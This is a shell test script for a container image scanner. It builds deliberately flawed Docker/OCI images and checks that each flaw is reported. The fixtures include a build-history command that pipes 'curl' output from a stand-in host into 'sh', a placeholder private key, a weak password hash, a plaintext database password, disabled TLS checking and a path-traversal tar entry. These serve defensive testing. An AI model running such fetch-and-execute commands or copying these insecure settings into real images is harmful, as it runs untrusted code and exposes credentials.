#!/usr/bin/env bash
# Checks of whole images: configuration, history, and what lies in the final file system.
. "$(dirname "$0")/lib.sh"
command -v python3 >/dev/null || { echo "skipped: no python3"; exit 77; }
export PYTHONPATH=$VETO_SOURCE/tests/cli PYTHONDONTWRITEBYTECODE=1

cat >make.py <<'PYTHON'
from image_maker import *

key = "-----BEGIN OPENSSH " + "PRIVATE KEY-----\nbm90IGEga2V5\n-----END OPENSSH " + "PRIVATE KEY-----\n"
base = layer(("etc/os-release", 'ID=debian\nVERSION_ID="9"\n'), ("usr/bin/su", "x", 0o4755),
             ("etc/passwd", "root:x:0:0::/root:/bin/sh\napp:x:7:7::/app:/bin/sh\n"),
             ("etc/shadow", "root:$1$saltsalt$abcdefghijklmnopqrstuv:1::::::\napp::1::::::\n"),
             ("opt/base-open", "x", 0o666), ("tmp", None, 0o1777), ("usr/bin/gcc", "x", 0o755),
             ("root/.ssh/id_ed25519", key))
own = layer(("opt/tool", "x", 0o4755), ("app/open", None, 0o777), ("app/open/too", "x", 0o666),
            ("app/.git/HEAD", "ref: refs/heads/main\n"), ("root/.ssh/.wh.id_ed25519", ""),
            ("var/lib/apt/lists/deb_main_Packages", "x" * 5000), ("usr/sbin/sshd", "x", 0o755),
            ("usr/bin/.wh.gcc", ""), ("app/.env", "A=1\n"), ("dev/null", "x", 0o666),
            ("etc/cron.d/job", "* * * * * root /x\n"), ("usr/local/share/ca-certificates/proxy.crt", "x"),
            ("app/start", "x", 0o757), ("../../up", "x"))
save("bad.tar", {"team/app:latest": [base, own]},
     created="2020-02-03T04:05:06Z",
     config={"Env": ["PATH=/bin:/app/open", "DB_PASSWORD=correct-horse-42", "NODE_TLS_REJECT_UNAUTHORIZED=0"],
             "ExposedPorts": {"22/tcp": {}}, "Volumes": {"/etc": {}}, "Cmd": ["/bin/sh", "-c", "app"]},
     history=[{"created_by": "/bin/sh -c #(nop) ADD file:1 in / "},
              {"created_by": '/bin/sh -c #(nop)  CMD ["bash"]', "empty_layer": True},
              {"created_by": "RUN |1 TOKEN=" + token("arg") + " /bin/sh -c curl -s http://x.example/i | sh # buildkit"},
              {"created_by": "ADD app.py /app/ # buildkit", "empty_layer": True}])
good = layer(("etc/passwd", "root:x:0:0::/root:/sbin/nologin\n"), ("etc/os-release", "ID=alpine\nVERSION_ID=3.22.0\n"))
save("good.tar", {"team/good:1.2": [good, layer(("app/run", "x", 0o755))]}, created="2025-12-01T00:00:00Z",
     config={"User": "10001", "Cmd": ["/app/run"], "Healthcheck": {"Test": ["CMD", "/app/run", "--check"]},
             "Labels": {"org.opencontainers.image.source": "https://git.example/x"}})
PYTHON
expect 'images are made' python3 make.py

run scan bad.tar -f json
expect_exit 1
expect_no_stdout 'correct-horse-42'
expect_no_stdout 'saltsalt'
expect 'what is wrong is found where it is' python3 - "$io/stdout" <<'PYTHON'
import json, sys
report = json.load(open(sys.argv[1]))
found = {}
for f in report["findings"]:
    if f["rule"].startswith("image-"):
        links = {l["kind"]: l for l in f["origin"]}
        where = links.get("entry", links.get("config", {})).get("name")
        found.setdefault(f["rule"], []).append((links.get("layer", {}).get("index"), where, f["state"]))
wanted = {
    "image-runs-as-root": [(None, "User", "present")],
    "image-no-healthcheck": [(None, "Healthcheck", "present")],
    "image-latest-tag": [(None, None, "present")],
    "image-setuid-file": [(1, "opt/tool", "present")],
    "image-setuid-usual": [(0, "usr/bin/su", "present")],
    "image-world-writable": [(1, "app/open", "present"), (1, "app/start", "present")],
    "image-secret-file-deleted": [(0, "root/.ssh/id_ed25519", "deleted")],
    "image-path-writable": [(1, "app/open", "present")],
    "image-cron-root": [(1, "etc/cron.d/job", "present")],
    "image-ca-added": [(1, "usr/local/share/ca-certificates/proxy.crt", "present")],
    "image-path-traversal-entry": [(1, "up", "present")],
    "image-git-dir": [(1, "app/.git/HEAD", "present")],
    "image-package-cache": [(1, "var/lib/apt/lists/deb_main_Packages", "present")],
    "image-env-file": [(1, "app/.env", "present")],
    "image-env-secret": [(None, "Env", "present")],
    "image-tls-env-off": [(None, "Env", "present")],
    "image-ssh-port": [(None, "ExposedPorts", "present")],
    "image-ssh-server": [(1, "usr/sbin/sshd", "present")],
    "image-sensitive-volume": [(None, "Volumes", "present")],
    "image-shell-form": [(None, "Cmd", "present")],
    "image-empty-password": [(0, "etc/shadow", "present")],
    "image-password-hash-weak": [(0, "etc/shadow", "present")],
    "image-eol-distribution": [(0, "etc/os-release", "present")],
    "image-not-minimal": [(0, "etc/os-release", "present")],
    "image-old": [(None, "created", "present")],
    "image-download-executed": [(None, "history[2]", "present")],
    "image-add-in-history": [(None, "history[3]", "present")],
    "image-label-missing": [(None, "Labels", "present")],
}
for rule in sorted(set(wanted) | set(found)):
    if found.get(rule) != wanted.get(rule):
        sys.exit(f"{rule}: {found.get(rule)}, not {wanted.get(rule)}")
assert all(not f["fingerprint"] == "" for f in report["findings"])
PYTHON
expect_no_stdout "$(python3 -c 'from image_maker import *; print(token("arg"))')"

run scan good.tar -f json
expect_exit 0
expect_stdout '"findings": 0'

# The same in every number of threads, and under another tag the same fingerprints.
for jobs in 1 2 16; do
    run scan bad.tar -j "$jobs" -f sarif
    cp "$io/stdout" "$io/sarif-$jobs"
done
expect '-j1 and -j2 agree' cmp "$io/sarif-1" "$io/sarif-2"
expect '-j1 and -j16 agree' cmp "$io/sarif-1" "$io/sarif-16"

# What the checks are asked of, for whoever writes one.
run rules show image-runs-as-root
expect_exit 0

# Of an image whose configuration is not there, or is none, nobody knows the user: the scan is incomplete, no more.
python3 - <<'PYTHON'
import io, tarfile
from image_maker import *

save("whole.tar", {"team/app:1": [layer(("app/run", "x", 0o4755))]})
with tarfile.open("whole.tar") as tar:
    members = [(m.name, tar.extractfile(m).read()) for m in tar if m.isfile()]
manifest = dict(members)["manifest.json"]
config = json.loads(manifest)[0]["Config"]
for name, text in (("gone", None), ("list", b"[]"), ("text", b'"x"'), ("broken", b"{"), ("empty", b"")):
    with tarfile.open(name + ".tar", "w") as tar:
        for path, data in members:
            data = text if path == config else data
            if data is not None:
                info = tarfile.TarInfo(path)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
PYTHON
run scan -f json whole.tar
expect_stdout '"image-runs-as-root"'
for name in gone list text broken empty; do
    run scan -f json $name.tar
    expect_stdout '"image-setuid-file"'
    for rule in image-runs-as-root image-no-healthcheck image-label-missing; do
        expect_no_stdout "\"$rule\""
    done
done
run scan --fail-on high gone.tar
expect_exit 3

# Every text of a configuration is looked at, wherever builders put it; each is found at its member.
python3 - <<'PYTHON'
from image_maker import *

save("texts.tar", {"team/app:1": [layer(("app/run", "x"))]},
     config={"Volumes": {"/data/" + token("volume"): {}}, "WorkingDir": "/srv/" + token("folder"), "Hostname": token("host"),
             "ExposedPorts": {token("port"): {}}, "StopSignal": token("stop"), "Image": token("image"),
             "Custom": {"deep": [{"er": token("deep")}]}},
     history=[{"created_by": "RUN x", "builder": {"args": [token("history")]}}],
     moby={"list": [token("other")], "rest": {"a": token("rest")}})
PYTHON
run scan -f json texts.tar
expect 'all are found' python3 - "$io/stdout" <<'PYTHON'
import json, sys
names = sorted(next(l["name"] for l in f["origin"] if l["kind"] == "config")
               for f in json.load(open(sys.argv[1]))["findings"] if f["rule"] == "github-pat")
assert names == ["Custom", "ExposedPorts", "Hostname", "Image", "StopSignal", "Volumes", "WorkingDir", "history[0]",
                 "other", "other"], names
PYTHON

# So is what a manifest and an index say of their blobs.
python3 - <<'PYTHON'
from image_maker import *

def described(blob, **members):
    return {"digest": "sha256:" + sha(blob), "size": len(blob)} | members

one = layer(("app/run", "x"))
config = json.dumps({"os": "linux", "architecture": "amd64", "config": {"User": "1"},
                     "rootfs": {"type": "layers", "diff_ids": ["sha256:" + sha(one)]}}).encode()
manifest = json.dumps({"schemaVersion": 2, "config": described(config, annotations={"x": token("config")}),
                       "layers": [described(one, annotations={"y": token("layer")}, urls=["https://h.example/?t=" + token("url")])]}).encode()
index = json.dumps({"schemaVersion": 2, "manifests": [described(manifest, annotations={"z": token("index")})]}).encode()
with tarfile.open("described.tar", "w") as tar:
    for name, data in {"oci-layout": b'{"imageLayoutVersion":"1.0.0"}', "index.json": index,
                       **{"blobs/sha256/" + sha(blob): blob for blob in (one, config, manifest)}}.items():
        info = tarfile.TarInfo(name)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
PYTHON
run scan -f json described.tar
expect 'four are found' test "$(grep -c '"rule": "github-pat"' "$io/stdout")" = 4
